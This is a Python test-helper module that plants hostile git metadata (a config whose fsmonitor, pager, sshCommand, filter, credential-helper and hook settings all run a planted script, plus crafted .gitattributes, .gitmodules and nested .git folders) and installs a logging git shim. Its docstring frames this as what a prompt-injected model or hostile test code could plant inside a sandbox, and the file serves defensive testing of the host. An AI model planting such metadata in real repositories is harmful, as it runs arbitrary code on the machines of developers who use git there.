"""Hostile git metadata as a prompt-injected model or hostile test code would plant it in a
run copy, and a `git` shim that records every host-side git call (argv, cwd, environment)."""

from __future__ import annotations

import os
import shutil
import stat
from pathlib import Path

HOOKS = (
    "pre-commit",
    "post-checkout",
    "post-index-change",
    "reference-transaction",
    "fsmonitor-watchman",
    "pre-auto-gc",
    "post-commit",
)


def hostile_config(script: str, root: str) -> str:
    """A git config whose every command-running knob runs `script`."""
    return (
        "[core]\n"
        f"\tfsmonitor = {script}\n"
        f"\thooksPath = {root}/evilhooks\n"
        f"\tpager = {script}\n"
        f"\tsshCommand = {script}\n"
        f"\teditor = {script}\n"
        f"\taskPass = {script}\n"
        "\trepositoryformatversion = 0\n"
        "\tbare = false\n"
        "[diff]\n"
        f"\texternal = {script}\n"
        '[diff "x"]\n'
        f"\ttextconv = {script}\n"
        '[filter "x"]\n'
        f"\tclean = {script}\n"
        f"\tsmudge = {script}\n"
        f"\tprocess = {script}\n"
        "\trequired = true\n"
        "[credential]\n"
        f"\thelper = !{script}\n"
        "[include]\n"
        f"\tpath = {root}/evil.inc\n"
    )


def planting_code(marker: Path) -> str:
    """Python source that plants hostile git metadata in the folder of `__file__`
    (used verbatim in a conftest.py that the sandbox runs, and by direct planting)."""
    return f"""
import os, pathlib, stat
root = pathlib.Path(__file__).resolve().parent
marker = {str(marker)!r}
script = root / "evil.sh"
script.write_text("#!/bin/sh\\ntouch " + marker + "\\nenv >> " + marker + ".env\\n")
script.chmod(0o755)
config = {hostile_config("@S@", "@R@")!r}.replace("@S@", str(script)).replace("@R@", str(root))
(root / "evil.inc").write_text("[core]\\n\\tfsmonitor = " + str(script) + "\\n")
hooks = root / "evilhooks"
hooks.mkdir(exist_ok=True)
for name in {HOOKS!r}:
    (hooks / name).write_text(script.read_text())
    (hooks / name).chmod(0o755)
def repo(gitdir):
    for sub in ("objects/info", "refs/heads", "hooks"):
        (gitdir / sub).mkdir(parents=True, exist_ok=True)
    (gitdir / "HEAD").write_text("ref: refs/heads/main\\n")
    (gitdir / "config").write_text(config)
    for name in {HOOKS!r}:
        (gitdir / "hooks" / name).write_text(script.read_text())
        (gitdir / "hooks" / name).chmod(0o755)
dotgit = root / ".git"
if dotgit.is_file() or dotgit.is_symlink():
    dotgit.unlink()
repo(dotgit)
repo(root / "evilgit")
(root / "sub").mkdir(exist_ok=True)
(root / "sub" / ".git").write_text("gitdir: " + str(root / "evilgit") + "\\n")
(root / "sub" / "f.txt").write_text("x\\n")
repo(root / "nested" / ".git")
(root / "nested" / "n.txt").write_text("n\\n")
if (root / "lib").is_dir():
    repo(root / "lib" / ".git")
(root / ".gitattributes").write_text("* filter=x diff=x\\n")
sub = "[submodule \\"lib\\"]\\n\\tpath = lib\\n\\turl = ext::" + str(script)
(root / ".gitmodules").write_text(sub + "\\n\\tupdate = !" + str(script) + "\\n")
"""


def plant(root: Path, marker: Path) -> None:
    """Plant the hostile metadata in `root` from the host (what the sandbox could do)."""
    code = planting_code(marker)
    exec(compile(code, str(root / "plant.py"), "exec"), {"__file__": str(root / "plant.py")})


def install_git_shim(folder: Path, log: Path) -> str:
    """A `git` in `folder` that appends argv, cwd and environment to `log`, then runs the real
    git; returns a PATH value that puts it first."""
    real = shutil.which("git")
    assert real, "git is needed"
    folder.mkdir(parents=True, exist_ok=True)
    shim = folder / "git"
    shim.write_text(
        "#!/bin/sh\n"
        '{ printf "=== CALL\\n"; printf "cwd=%s\\n" "$PWD"; printf "arg=%s\\n" "$@"; env; }'
        f' >> "{log}"\n'
        f'exec "{real}" "$@"\n'
    )
    shim.chmod(shim.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return f"{folder}{os.pathsep}{os.environ.get('PATH', '')}"


def calls(log: Path) -> list[str]:
    """The recorded git calls, one text block each."""
    if not log.exists():
        return []
    return [c for c in log.read_text(errors="replace").split("=== CALL\n") if c.strip()]
